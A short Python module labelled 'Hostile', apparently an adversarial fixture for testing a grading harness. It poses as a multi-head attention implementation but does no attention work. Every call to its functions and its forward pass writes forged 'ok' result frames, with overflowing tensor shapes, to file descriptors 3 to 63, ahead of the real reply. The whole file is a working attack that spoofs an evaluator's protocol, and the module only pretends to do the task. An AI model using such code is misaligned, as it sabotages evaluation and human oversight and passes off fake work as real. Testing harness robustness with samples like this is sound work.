"""Hostile: write replies whose tensor shapes overflow (2**39 to the 4th) on every descriptor, before the real one."""
import json
import os
import struct

import torch
from torch import nn


def _forge():
    meta = {"tensor": None, "dtype": "float32", "shape": [2**39] * 4, "device": "meta"}
    head = json.dumps({"op": "result", "ok": True, "seen": [], "values": {
        "output": meta, "arg_grads": {"tuple": []}, "kwarg_grads": {"dict": {}},
        "param_grads": {"dict": {}}, "state": None, "buffers": None, "mutated": []}}).encode()
    frame = struct.pack(">4sIQ", b"ATN1", len(head), 0) + head
    for fd in range(3, 64):
        try:
            os.write(fd, frame)
        except OSError:
            pass


def split_heads(x, num_heads):
    _forge()
    return x


def merge_heads(x):
    _forge()
    return x


class MultiHeadAttention(nn.Module):
    def __init__(self, embed_dim, num_heads, *, bias=True, dropout=0.0, kdim=None, vdim=None):
        super().__init__()
        self.proj = nn.Linear(embed_dim, embed_dim, bias=bias)

    def forward(self, query, key=None, value=None, **kwargs):
        _forge()
        return self.proj(query), None
